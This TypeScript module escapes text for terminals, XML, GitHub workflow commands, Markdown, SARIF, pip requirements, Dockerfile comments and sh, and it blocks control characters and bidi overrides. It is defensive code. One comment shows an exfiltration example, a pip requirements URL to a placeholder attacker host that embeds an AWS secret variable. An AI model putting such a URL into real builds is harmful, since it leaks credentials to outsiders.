// Escaping for every sink envdiff writes to, one function per sink, each defined by what its
// consumer treats as a line break or a control: a terminal or log (visible: C0, C1, bidi, U+2028/9),
// XML (JUnit), GitHub workflow commands, GitHub Flavored Markdown and the HTML inside it, SARIF
// text, a Dockerfile comment (BuildKit splits lines at `\n` only and reads `\` as continuation),
// a pip requirements file (pip splits lines with Python's str.splitlines()) and sh. Labels,
// subjects, messages, paths and file contents may hold a newline, an escape sequence or markup;
// every writer escapes through one of these and nothing else.

// C0/C1 controls, DEL, line/paragraph separators and the bidi overrides of "Trojan Source"
// (CVE-2021-42574): none may reach a terminal, a log or a PR comment unescaped.
// eslint-disable-next-line no-control-regex -- matching control characters is what this module is for
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g;
const NAMED: Readonly<Record<string, string>> = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };

/** One UTF-16 code unit as `\u001b` text: how every format shows a character it must not emit. */
export function unicodeEscape(c: string): string {
  return `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`;
}

/** Every unsafe character as a visible escape (`\n`, `\u001b`), so text stays on one line. */
export function visible(s: string): string {
  return s.replace(UNSAFE, (c) => NAMED[c] ?? unicodeEscape(c));
}

// --- XML (JUnit)

// XML 1.0 forbids most C0 controls even as character references (§2.2 Char), and lone
// surrogates cannot be encoded: show them as \uXXXX text instead.
const NOT_XML =
  // eslint-disable-next-line no-control-regex -- matching control characters is what this module is for
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

function xmlSafe(s: string): string {
  return s.replace(NOT_XML, unicodeEscape);
}

export function escapeXmlText(s: string): string {
  return xmlSafe(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** Attribute values also encode quotes and whitespace, which attribute normalization would eat. */
export function escapeXmlAttr(s: string): string {
  return escapeXmlText(s)
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;')
    .replace(/\n/g, '&#10;')
    .replace(/\r/g, '&#13;')
    .replace(/\t/g, '&#9;');
}

// --- GitHub workflow commands. Escaping follows actions/toolkit packages/core/src/command.ts:
// data escapes % \r \n, property values also : and , — so a subject with a newline cannot start
// a command of its own.

// Other controls (ESC, NUL, C1), the Unicode line separators and the bidi overrides are not part
// of the protocol but would reach the log raw: make them visible.
// eslint-disable-next-line no-control-regex -- matching control characters is what this module is for
const OTHER_CONTROLS = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g;

function controls(s: string): string {
  return s.replace(OTHER_CONTROLS, unicodeEscape);
}

export function escapeData(s: string): string {
  return controls(s).replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A');
}

export function escapeProperty(s: string): string {
  return escapeData(s).replace(/:/g, '%3A').replace(/,/g, '%2C');
}

/** Plain log lines carry labels too; they must stay one line that does not start with `::`. */
export function plainLogLine(s: string): string {
  return controls(s).replace(/\r\n?|\n/g, '\\n');
}

// --- GitHub Flavored Markdown and the HTML inside it

/** Text safe inside a GFM table cell or heading: one line, no markup, no HTML, no mentions. */
export function escapeMarkdown(s: string): string {
  // Backslash escapes first: the entities added next contain `#`, which must stay unescaped.
  return visible(s.replace(/\r\n?|\n/g, ' '))
    .replace(/[\\`*_[\]|~#!(){}]/g, '\\$&')
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/@/g, '&#64;');
}

/** Text inside an HTML element (<summary>): entities only, since Markdown is not parsed there. */
export function escapeHtml(s: string): string {
  return visible(s.replace(/\r\n?|\n/g, ' '))
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/@/g, '&#64;');
}

// --- SARIF: JSON carries any string, but code-scanning UIs show message text in logs and pages.

/** SARIF `message.text` and rule texts: one line, no controls, no bidi overrides. */
export function sarifText(s: string): string {
  return visible(s);
}

// --- pip requirements files

/**
 * What Python's str.splitlines() — which pip's requirements reader uses (pip/_internal/req/req_file.py
 * `preprocess`) — treats as a line end: \n \r \v \f \x1c \x1d \x1e \x85 \u2028 \u2029
 * (https://docs.python.org/3/library/stdtypes.html#str.splitlines).
 */
// eslint-disable-next-line no-control-regex -- matching control characters is what this module is for
export const PIP_LINE_BREAK = /[\n\r\v\f\u001c-\u001e\u0085\u2028\u2029]/;

/** Text for a `#` comment line of a requirements file: nothing in it can end the line. */
export function pipComment(s: string): string {
  return visible(s);
}

/**
 * Can this value be one token of a requirements line (a URL, a version) and read back as itself?
 * No line break, space, quote, `\\` or control; and no `${NAME}`, which pip replaces with the
 * installing machine's environment variable (pip/_internal/req/req_file.py `expand_env_variables`):
 * `https://evil.invalid/${AWS_SECRET_ACCESS_KEY}` would send a build secret away.
 */
export function isPipToken(s: string): boolean {
  return s !== '' && !PIP_LINE_BREAK.test(s) && !/[\s"'\\]/.test(s) && !s.includes('${') && !LONE_SURROGATE.test(s) && visible(s) === s;
}

/** A UTF-16 surrogate without its pair: written as UTF-8 it becomes U+FFFD, another value. */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

// --- Dockerfiles

/** Text for a Dockerfile `#` comment: one line (no `\n`, `\r`), no controls or bidi overrides. */
export function dockerfileComment(s: string): string {
  return visible(s);
}

// --- sh

/** Single-quotes a value for sh: the only safe way to put user text into a script. */
export function shQuote(value: string): string {
  return `'${value.replace(/'/g, `'\\''`)}'`;
}
